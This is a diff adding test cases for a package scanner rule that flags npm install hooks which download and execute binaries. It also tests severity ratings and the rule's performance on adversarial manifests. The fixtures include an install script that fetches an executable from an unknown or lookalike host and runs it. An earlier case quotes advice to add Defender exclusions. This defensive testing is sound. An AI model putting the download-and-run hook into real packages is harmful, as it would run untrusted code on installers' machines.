@@ -1,4 +1,22 @@
-import { describeRuleCases, sh } from './rule-cases.helper.js';
+import { describeRuleCases, findingsOf, sh } from './rule-cases.helper.js';
+
+const manifest = (hook: string) =>
+  JSON.stringify({
+    name: 'pdf-render',
+    version: '2.0.1',
+    scripts: { [hook]: 'node ./scripts/fetch-engine.js', test: 'node --test' },
+  });
+/** An install script that downloads an engine binary and starts it once to check it. */
+const fetchEngine = (base: string) =>
+  [
+    "const { execFileSync } = require('child_process');",
+    "const fs = require('fs');",
+    `const url = '${base}/engine-' + process.platform + '-' + process.arch;`,
+    'const res = await fetch(url);',
+    "const bin = require('path').join(__dirname, '..', 'bin', 'engine');",
+    'fs.writeFileSync(bin, Buffer.from(await res.arrayBuffer()), { mode: 0o755 });',
+    "execFileSync(bin, ['--version']);",
+  ].join('\n');
 
 describeRuleCases('installer', [
   {
@@ -50,4 +68,49 @@ describeRuleCases('installer', [
       'If Defender quarantines it, add the extraction folder\nas an exclusion (Windows Security → Virus & threat protection → Exclusions).\n',
     negative: 'It does **not** disable Defender or SmartScreen, add exclusions, or change policies.\n',
   },
+  {
+    id: 'SG-INSTALL-006',
+    // postinstall downloads an engine from a CDN nobody names and runs it.
+    file: 'package.json',
+    others: { 'scripts/fetch-engine.js': fetchEngine('https://dl.pdfrender-cdn.app/engines') },
+    positive: manifest('postinstall'),
+    // The same script as a command the user runs when they choose, not an install hook.
+    negative: manifest('fetch-engine'),
+  },
 ]);
+
+describe('SG-INSTALL-006 severity', () => {
+  const severityOf = (base: string, hook = 'preinstall', sub = '') =>
+    findingsOf(manifest(hook), `${sub}package.json`, undefined, {
+      [`${sub}scripts/fetch-engine.js`]: fetchEngine(base),
+    }).find((f) => f.rule_id === 'SG-INSTALL-006')?.severity;
+
+  it('should rate a download from an unknown host HIGH, in a package folder too', () => {
+    expect(severityOf('https://objects.github-releases.net/pdf')).toBe('HIGH');
+    expect(severityOf('https://objects.github-releases.net/pdf', 'install', 'tool/')).toBe('HIGH');
+  });
+
+  it('should keep release assets on GitHub at MEDIUM', () => {
+    expect(severityOf('https://github.com/pdf-render/engine/releases/download/v2.0.1')).toBe('MEDIUM');
+  });
+
+  it('should leave a hook that loads a prebuild shipped in the package alone', () => {
+    const loader =
+      "const p = require('path').join(__dirname, '..', 'prebuilds', process.platform + '.node');\ntry { require(p); } catch { require('child_process').spawnSync('node-gyp', ['rebuild']); }\n";
+    const found = findingsOf(manifest('install'), 'package.json', undefined, {
+      'scripts/fetch-engine.js': loader,
+    });
+    expect(found.map((f) => f.rule_id)).not.toContain('SG-INSTALL-006');
+  });
+});
+
+describe('SG-INSTALL-006 on adversarial manifests', () => {
+  it('should read a 400 KiB hook command and a 1 MiB install script in under a second', () => {
+    const KiB = 1024;
+    const pkg = JSON.stringify({ scripts: { postinstall: 'node ' + 'a/'.repeat(200 * KiB) + 'x.js' } });
+    const script = 'require(x)\n' + 'https.get(a/'.repeat((1024 * KiB) / 12);
+    const start = performance.now();
+    findingsOf(pkg, 'package.json', undefined, { 'x.js': script });
+    expect(performance.now() - start).toBeLessThan(1000);
+  });
+});
